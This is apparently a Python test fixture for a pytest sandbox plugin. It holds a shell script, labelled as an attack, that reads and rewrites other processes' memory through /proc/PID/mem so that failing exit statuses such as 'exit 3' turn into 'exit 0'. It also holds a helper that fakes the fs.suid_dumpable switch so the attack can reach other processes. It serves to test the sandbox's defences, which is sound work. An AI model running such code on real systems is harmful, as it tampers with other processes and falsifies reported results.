"""An attack on the memory of other processes of a container, in shell."""

from __future__ import annotations

import pytest

from pytest_cobbler.sandbox import lifeline, memory

__all__ = ["REWRITE", "let_users_into_all_memory"]

REWRITE = r"""
rewrite() {  # PROCESS TEXT REPLACEMENT (of the same length)
  grep ' rw-p ' /proc/$1/maps | tr - ' ' | while read -r first last _; do
    first=$((0x$first)) last=$((0x$last))
    [ $((last - first)) -lt 67108864 ] || continue
    dd if=/proc/$1/mem bs=4096 skip=$((first / 4096)) count=$(((last - first) / 4096)) 2>/dev/null |
      LC_ALL=C grep -abo -F "$2" | while IFS=: read -r offset _; do
        printf %s "$3" | dd of=/proc/$1/mem bs=1 seek=$((first + offset)) conv=notrunc && echo rewrote $1
      done
  done
}
for process in /proc/[0-9]*; do
  process=${process#/proc/}
  [ $process = $$ ] && continue
  rewrite $process 'ended $cobbler_status' 'ended 0              '
  rewrite $process 'exit $cobbler_status' 'exit 0              '
  rewrite $process 'exit 3' 'exit 0'
done 2>/dev/null
"""
"""Makes a success of every exit status that a shell above has yet to report. Needs GNU grep."""


def let_users_into_all_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """Make jobs as they are on a machine with ``fs.suid_dumpable`` at 1.

    The switch is one for the whole machine, so a file in its place says 1, and no shell is protected.
    """
    monkeypatch.setattr(lifeline, "OPENING", 'script=$1; shift; exec sh -c "$script" cobbler sh "$@"')
    switch = "/proc/sys/fs/suid_dumpable"
    attack = memory._ATTACK
    assert switch in attack
    monkeypatch.setattr(memory, "_ATTACK", f"echo 1 >/tmp/switch\n{attack.replace(switch, '/tmp/switch')}")
